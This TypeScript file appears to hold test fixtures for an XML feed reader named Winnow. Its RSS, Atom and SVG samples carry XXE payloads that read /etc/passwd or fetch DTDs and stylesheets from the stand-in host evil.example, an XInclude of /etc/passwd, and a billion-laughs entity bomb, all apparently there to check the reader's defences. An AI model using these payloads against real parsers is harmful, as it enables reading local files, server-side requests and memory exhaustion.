/** XML that reads files, fetches or grows, in the shapes that Winnow reads: a feed, an Atom feed, a page, captions. */
const item = (title: string) =>
  `<item><title>${title}</title><link>https://valley.example/1</link><description>${title}</description></item>`;
const rss = (doctype: string, title: string) =>
  `<?xml version="1.0"?>${doctype}<rss version="2.0"><channel><title>${title}</title>${item(title)}</channel></rss>`;

const LAUGHS = Array.from({ length: 12 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

export const OWN_DOCUMENTS: readonly { id: string; text: string }[] = [
  { id: 'own-file', text: rss('<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 'A &x; title') },
  { id: 'own-http', text: rss('<!DOCTYPE rss [<!ENTITY x SYSTEM "http://evil.example/x">]>', 'A &x; title') },
  { id: 'own-public', text: rss('<!DOCTYPE rss PUBLIC "-//X//X" "http://evil.example/evil.dtd">', 'A title') },
  { id: 'own-parameter', text: rss('<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/evil.dtd"> %p;]>', 'A title') },
  { id: 'own-laughs', text: rss(`<!DOCTYPE rss [<!ENTITY l0 "ha">${LAUGHS}]>`, '&l12;') },
  {
    id: 'own-include',
    text: rss('', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
  },
  { id: 'own-stylesheet', text: `<?xml-stylesheet href="http://evil.example/x.xsl"?>${rss('', 'A title')}` },
  {
    id: 'own-atom',
    text: '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed xmlns="http://www.w3.org/2005/Atom"><title>&x;</title><entry><title>&x;</title><link href="https://valley.example/1"/></entry></feed>',
  },
  {
    id: 'own-svg',
    text: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://evil.example/x.png"/></svg>',
  },
];
